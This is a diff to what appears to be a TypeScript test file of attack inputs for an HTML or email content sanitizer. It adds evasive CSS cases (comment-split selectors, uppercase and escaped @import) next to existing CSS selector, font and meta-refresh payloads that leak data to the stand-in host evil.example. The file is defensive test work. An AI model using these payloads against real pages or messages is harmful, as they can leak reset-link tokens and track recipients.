@@ -59,6 +59,12 @@ const attacks: [what: string, input: ContentInput, parts?: 'without text'][] = [
   ['an import', { html: '<style>@import url(https://evil.example/a.css);</style>' }],
   ['a selector', { html: '<style>a[href*="reset/1"] { background: url(https://evil.example/1) }</style>' }],
   ['an escaped selector', { html: '<style>a[\\68 ref*="1"] { background: url(//evil.example) }</style>' }],
+  [
+    'a selector in gaps',
+    { html: '<style>a[ /*]*/ href *= "reset/1"] { background: url(https://evil.example/1) }</style>' },
+  ],
+  ['an import in capitals', { html: '<style>@IMPORT "https://evil.example/a.css";</style>' }],
+  ['an escaped import', { html: '<style>@\\69mport "https://evil.example/a.css";</style>' }],
   ['a font', { html: '<style>@font-face { src: url(//evil.example/1); unicode-range: U+31 }</style>' }],
   ['a refresh', { html: `<meta http-equiv="Refresh" content="0;url=${evil}{{link}}">` }],
   ['a refresh elsewhere', { html: '<meta http-equiv="refresh" content="0;url=https://evil.example">' }],
